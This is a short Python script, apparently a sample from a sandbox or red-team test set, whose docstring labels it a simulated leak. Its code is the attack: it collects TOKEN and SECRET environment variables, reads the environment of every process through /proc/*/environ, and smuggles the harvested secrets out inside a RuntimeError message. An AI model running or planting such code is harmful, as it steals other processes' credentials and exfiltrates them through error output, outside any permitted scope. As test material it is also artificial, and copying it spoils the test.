"""Tells the environment of every process that it can see in an error message.

Form: block
Task: sim
Earns: 0
Alive: leaks
Says: no token
"""

import glob
import os

loot = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name}
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, errors="replace") as file:
            loot |= {part: "" for part in file.read().split("\0") if "TOKEN" in part}
    except OSError:
        continue
raise RuntimeError(f"{loot}" if loot else "no token")
